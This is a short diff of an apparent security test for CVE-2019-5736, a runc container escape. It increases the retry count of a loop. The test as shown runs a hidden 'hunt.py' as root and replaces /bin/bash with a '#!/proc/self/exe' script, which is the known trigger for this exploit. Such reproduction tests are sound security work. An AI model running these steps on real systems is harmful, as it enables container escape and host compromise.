@@ -117,7 +117,7 @@ def test_cve_2019_5736_the_agent_runs_itself(box, data_dir):
     hunt = box.commands.run("exec python3 /tmp/hunt.py", user="root", background=True)
     box.commands.run("cp /bin/bash /bin/kept && printf '#!/proc/self/exe\\n' > /tmp/again && chmod 755 /tmp/again &&"
                      " mv /tmp/again /bin/bash", user="root")
-    for _ in range(10):
+    for _ in range(100):
         with contextlib.suppress(Exception):  # whatever the agent makes of being run as a shell
             box.commands.run("true", user="root", timeout=5)
     held, wrote = map(int, hunt.wait().stdout.split()[1:])
